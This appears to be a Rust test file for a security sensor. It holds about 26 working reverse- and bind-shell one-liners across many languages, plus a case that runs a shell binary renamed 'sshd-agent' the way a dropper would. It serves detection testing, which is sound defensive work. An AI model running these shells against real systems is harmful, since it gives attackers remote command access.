//! Shells behind the pipes of a general program that carries them to the peer.

use std::{fs, net::SocketAddr, path::Path};

use anyhow::Result;
use sensor_tests::{
    carried::{Least, PUMP},
    lab::Lab,
    peer::{Listener, V4, call, free_port},
    suite::Case,
};

/// What bash runs.
const PUMPS: [(&str, &[&str], &str); 22] = [
    (
        "node_connects_first",
        &["node"],
        r#"exec node -e 'const s=require("net").connect(process.env.P,process.env.H,()=>{
const c=require("child_process").spawn("/bin/sh",["-i"]); s.pipe(c.stdin); c.stdout.pipe(s); c.stderr.pipe(s); c.on("exit",()=>s.end()) })'"#,
    ),
    (
        "node_starts_the_shell_first",
        &["node"],
        r#"exec node -e 'const c=require("child_process").spawn("/bin/sh"); c.once("spawn",()=>{
const s=require("net").connect(process.env.P,process.env.H,()=>{
s.pipe(c.stdin); c.stdout.pipe(s); c.stderr.pipe(s); c.on("exit",()=>s.end()) }) })'"#,
    ),
    // The form of the cheat sheets.
    (
        "node_cheat_sheet",
        &["node"],
        r#"node -e '(function(){ var net=require("net"), cp=require("child_process"), sh=cp.spawn("/bin/bash",["--norc"]);
var client=new net.Socket(); client.connect(+process.env.P,process.env.H,function(){
client.pipe(sh.stdin); sh.stdout.pipe(client); sh.stderr.pipe(client); }); return /a/; })();'; true"#,
    ),
    (
        "php_proc_open",
        &["php"],
        r#"exec php -n -r '$s=fsockopen(getenv("H"),(int)getenv("P"));
$p=proc_open("/bin/sh -i",[["pipe","r"],["pipe","w"],["pipe","w"]],$d);
foreach([$s,$d[1],$d[2]] as $f) stream_set_blocking($f,false);
while(!feof($s)&&!feof($d[1])){ $r=[$s,$d[1],$d[2]]; $w=$e=null; stream_select($r,$w,$e,null);
  foreach($r as $f){ $b=fread($f,1400); fwrite($f===$s?$d[0]:$s,$b); } }'"#,
    ),
    (
        "php_proc_open_without_sh",
        &["php"],
        r#"php -n -r '$s=stream_socket_client("tcp://".getenv("H").":".getenv("P"));
$p=proc_open(["/bin/bash","--norc"],[["pipe","r"],["pipe","w"],["redirect",1]],$d);
while(!feof($s)&&!feof($d[1])){ $r=[$s,$d[1]]; $w=$e=null; stream_select($r,$w,$e,null);
  foreach($r as $f){ $b=fread($f,1400); fwrite($f===$s?$d[0]:$s,$b); fflush($d[0]); } }'; true"#,
    ),
    (
        "python_threads",
        &["python3"],
        r#"exec /usr/bin/python3 -c 'import os,socket,subprocess,threading
s=socket.create_connection((os.environ["H"],int(os.environ["P"])))
p=subprocess.Popen(["/bin/sh","-i"],stdin=subprocess.PIPE,stdout=subprocess.PIPE,stderr=subprocess.STDOUT)
def down():
  while b:=s.recv(1024): p.stdin.write(b); p.stdin.flush()
threading.Thread(target=down,daemon=True).start()
while b:=p.stdout.read(1): s.send(b)'"#,
    ),
    (
        "python_starts_the_shell_first",
        &["python3"],
        r#"exec /usr/bin/python3 -c 'import os,select,socket,subprocess
p=subprocess.Popen(["/bin/bash","--norc","-i"],stdin=-1,stdout=-1,stderr=-2,bufsize=0)
select.select([p.stdout],[],[])
s=socket.create_connection((os.environ["H"],int(os.environ["P"])))
while True:
  for f in select.select([s,p.stdout],[],[])[0]:
    b=os.read(f.fileno(),4096)
    if not b: raise SystemExit
    os.write((p.stdin if f is s else s).fileno(),b)'"#,
    ),
    (
        "python_asyncio",
        &["python3"],
        r#"exec /usr/bin/python3 -c 'import asyncio,os
async def pump(a,b):
  while d:=await a.read(4096): b.write(d); await b.drain()
async def main():
  r,w=await asyncio.open_connection(os.environ["H"],os.environ["P"])
  p=await asyncio.create_subprocess_exec("/bin/sh",stdin=-1,stdout=-1,stderr=-2)
  await asyncio.wait([asyncio.create_task(pump(r,p.stdin)),asyncio.create_task(pump(p.stdout,w))],return_when="FIRST_COMPLETED")
asyncio.run(main())'"#,
    ),
    (
        "python_socketpair",
        &["python3"],
        r#"exec /usr/bin/python3 -c 'import os,select,socket,subprocess
a,b=socket.socketpair(); p=subprocess.Popen(["/bin/sh","-i"],stdin=b,stdout=b,stderr=b); b.close()
s=socket.create_connection((os.environ["H"],int(os.environ["P"])))
while True:
  for f in select.select([s,a],[],[])[0]:
    d=f.recv(4096)
    if not d: raise SystemExit
    (a if f is s else s).sendall(d)'"#,
    ),
    // One process reads from the peer, another writes to it.
    (
        "python_two_processes",
        &["python3"],
        r#"exec /usr/bin/python3 -c 'import os,socket
s=socket.create_connection((os.environ["H"],int(os.environ["P"]))); (a,b),(c,d)=os.pipe(),os.pipe()
if os.fork()==0:
  os.dup2(a,0); os.dup2(d,1); os.dup2(d,2); [os.close(f) for f in (a,b,c,d,s.fileno())]; os.execv("/bin/sh",["sh"])
os.close(a); os.close(d)
if os.fork()==0:
  os.close(c)
  while x:=s.recv(4096): os.write(b,x)
  os._exit(0)
os.close(b)
while x:=os.read(c,4096): s.sendall(x)
s.shutdown(socket.SHUT_RDWR)'"#,
    ),
    (
        "perl_open2",
        &["perl"],
        r#"exec perl -MIPC::Open2 -MIO::Socket -MIO::Select -e '$s=IO::Socket::INET->new("$ENV{H}:$ENV{P}");
open2($o,$i,"/bin/sh"); $l=IO::Select->new($s,$o);
while(1){ for $h($l->can_read){ sysread($h,$b,4096) or exit; syswrite($h==$s?$i:$s,$b) } }'"#,
    ),
    (
        "perl_open3",
        &["perl"],
        r#"perl -MIPC::Open3 -MIO::Socket -MIO::Select -e '$s=IO::Socket::INET->new("$ENV{H}:$ENV{P}");
open3($i,$o,undef,"/bin/bash","--norc","-i"); $l=IO::Select->new($s,$o);
while(1){ for $h($l->can_read){ sysread($h,$b,4096) or exit; syswrite($h==$s?$i:$s,$b) } }'; true"#,
    ),
    (
        "ruby_popen2e",
        &["ruby"],
        r#"exec ruby -rsocket -ropen3 -e 's=TCPSocket.new(ENV["H"],ENV["P"])
Open3.popen2e("/bin/sh","-i"){|i,o,t| Thread.new{IO.copy_stream(s,i)}; IO.copy_stream(o,s)}'"#,
    ),
    (
        "ruby_popen",
        &["ruby"],
        r#"ruby -rsocket -e 's=TCPSocket.new(ENV["H"],ENV["P"])
IO.popen(["/bin/bash","--norc"],"r+",err: [:child,:out]){|p| Thread.new{while l=s.gets; p.write l; p.flush; end}
while l=p.gets; s.write l; end}'; true"#,
    ),
    (
        "tcl_fileevent",
        &["tclsh"],
        r#"exec tclsh <<'END'
set s [socket $env(H) $env(P)]; set p [open "|/bin/sh -i 2>@1" r+]
foreach f [list $s $p] { fconfigure $f -blocking 0 -buffering none -translation binary }
proc pump {a b} { if {[eof $a]} exit; puts -nonewline $b [read $a] }
fileevent $s readable [list pump $s $p]; fileevent $p readable [list pump $p $s]
vwait forever
END"#,
    ),
    (
        "tcl_line_by_line",
        &["tclsh"],
        r#"exec tclsh <<'END'
set p [open "|sh" r+]; set s [socket $env(H) $env(P)]
while {[gets $s c] >= 0} { puts $p "$c; echo end-of-answer"; flush $p
  while {[gets $p l] >= 0 && $l ne "end-of-answer"} { puts $s $l }; flush $s }
END"#,
    ),
    // Lua has no pipe of both ways: the answers come through a FIFO.
    (
        "lua",
        &["lua5.4"],
        r#"mkfifo f; exec lua5.4 -e 'local s=require("socket").connect(os.getenv("H"),os.getenv("P"))
local p=io.popen("exec sh >f 2>&1","w"); local f=io.open("f")
while true do local c=s:receive(); if not c then break end
  p:write(c,"\necho end-of-answer\n"); p:flush()
  for l in f:lines() do if l=="end-of-answer" then break end; s:send(l.."\n") end end'"#,
    ),
    (
        "gawk",
        &["gawk"],
        r#"exec gawk 'BEGIN{ s="/inet/tcp/0/" ENVIRON["H"] "/" ENVIRON["P"]; c="sh"
while((s |& getline l)>0){ print l "; echo end-of-answer" |& c; fflush(c)
  while((c |& getline l)>0 && l!="end-of-answer") print l |& s; fflush(s) } }'"#,
    ),
    (
        "bash_coprocess",
        &["bash"],
        r#"exec 5<>/dev/tcp/$H/$P; coproc exec sh 2>&1; exec 6<&${COPROC[0]}
while read -r l <&6; do echo "$l" >&5; done & while read -r l <&5; do echo "$l" >&${COPROC[1]}; done; true"#,
    ),
    (
        "bash_cats",
        &["bash"],
        "exec 5<>/dev/tcp/$H/$P; cat <&5 | sh -i 2>&1 | cat >&5; true",
    ),
    (
        "zsh_ztcp",
        &["zsh"],
        "exec zsh -fc 'zmodload zsh/net/tcp; ztcp $H $P; coproc sh 2>&1; cat <&$REPLY >&p & cat <&p >&$REPLY; true'",
    ),
    (
        "node_worker_of_a_shell_that_waits",
        &["node"],
        r#"exec node -e 'const net=require("net"), cp=require("child_process"); let c;
const s=net.connect(process.env.P,process.env.H); s.on("data",d=>{
if(!c){ c=cp.spawn("bash",["--norc"]); c.stdout.on("data",x=>s.write(x)); c.stderr.on("data",x=>s.write(x)); c.on("exit",()=>s.end()) }
c.stdin.write(d) }); s.on("error",()=>process.exit())'"#,
    ),
];

/// The same, and the peer calls.
const INBOUND: [(&str, &[&str], &str); 4] = [
    (
        "node",
        &["node"],
        r#"exec node -e 'require("net").createServer(s=>{
const c=require("child_process").spawn("/bin/sh",["-i"]); s.pipe(c.stdin); c.stdout.pipe(s); c.stderr.pipe(s); c.on("exit",()=>s.end());
s.on("error",()=>0) }).listen(process.env.P,process.env.H)'"#,
    ),
    (
        "python",
        &["python3"],
        r#"exec /usr/bin/python3 -c 'import os,select,socket,subprocess
l=socket.create_server((os.environ["H"],int(os.environ["P"]))); s,_=l.accept()
p=subprocess.Popen(["/bin/sh","-i"],stdin=-1,stdout=-1,stderr=-2,bufsize=0)
while True:
  for f in select.select([s,p.stdout],[],[])[0]:
    b=os.read(f.fileno(),4096)
    if not b: raise SystemExit
    os.write((p.stdin if f is s else s).fileno(),b)'"#,
    ),
    (
        "ruby",
        &["ruby"],
        r#"exec ruby -rsocket -ropen3 -e 's=TCPServer.new(ENV["H"],ENV["P"]).accept
Open3.popen2e("/bin/sh"){|i,o,t| Thread.new{IO.copy_stream(s,i)}; IO.copy_stream(o,s)}'"#,
    ),
    (
        "perl_pty",
        &["perl"],
        r#"exec perl -MIO::Pty -MIO::Socket -MIO::Select -e '
$s=IO::Socket::INET->new(LocalAddr=>$ENV{H},LocalPort=>$ENV{P},Listen=>1,ReuseAddr=>1)->accept; $t=IO::Pty->new;
if(!fork){ $t->make_slave_controlling_terminal; $n=$t->slave; close $t; close $s;
  open STDIN,"<&",$n; open STDOUT,">&",$n; open STDERR,">&",$n; exec "/bin/bash","--norc" }
$t->close_slave; $l=IO::Select->new($s,$t);
while(1){ for $h($l->can_read){ sysread($h,$b,4096) or exit; syswrite($h==$s?$t:$s,$b) } }'"#,
    ),
];

fn java(lab: &Lab<'_>, order: &str) -> Result<()> {
    let listener = Listener::tcp(V4)?;
    fs::write(lab.path("Pump.java"), include_str!("../../programs/Pump.java"))?;
    let port = listener.port()?.to_string();
    let mut java = lab.command("java")?;
    lab.spawn(java.args(["Pump.java", order, "127.0.0.1", &port, "/bin/sh", "-i"]))?;
    lab.pumped(listener.accept()?, PUMP)
}

pub fn cases() -> Vec<Case> {
    let mut cases = Vec::new();
    for (name, tools, script) in PUMPS {
        cases.push(Case::new(format!("pump::{name}"), tools, move |lab| {
            lab.pumped(lab.calls(&Listener::tcp(V4)?, "127.0.0.1", script)?, PUMP)
        }));
    }
    for (name, tools, script) in INBOUND {
        cases.push(Case::new(format!("pump_inbound::{name}"), tools, move |lab| {
            let port = free_port(V4)?;
            lab.bash(script, &[("H", "127.0.0.1"), ("P", &port.to_string())])?;
            let inbound = Least {
                direction: "inbound",
                ..PUMP
            };
            lab.pumped(call(SocketAddr::new(V4, port))?, inbound)
        }));
    }
    cases.extend([
        Case::new("pump::java_starts_the_shell_first", &["java", "javac"], |lab| {
            java(lab, "before")
        }),
        Case::new("pump::java_connects_first", &["java", "javac"], |lab| {
            java(lab, "after")
        }),
        Case::new("pump::rust_threads", &[], |lab| {
            let listener = Listener::tcp(V4)?;
            let peer = format!("127.0.0.1:{}", listener.port()?);
            let program = Path::new(env!("CARGO_BIN_EXE_pump-rust"));
            lab.spawn(lab.command(program)?.args([&peer, "/bin/sh", "-i"]))?;
            lab.pumped(listener.accept()?, PUMP)
        }),
        // As a dropper does it: under a name of its own.
        Case::new("pump::rust_renamed", &[], |lab| {
            let program = lab.path("sshd-agent");
            fs::copy(env!("CARGO_BIN_EXE_pump-rust"), &program)?;
            let peer = lab.connected("exec $X $H:$P /bin/bash --norc", &program)?;
            lab.pumped(peer, PUMP)
        }),
    ]);
    cases
}
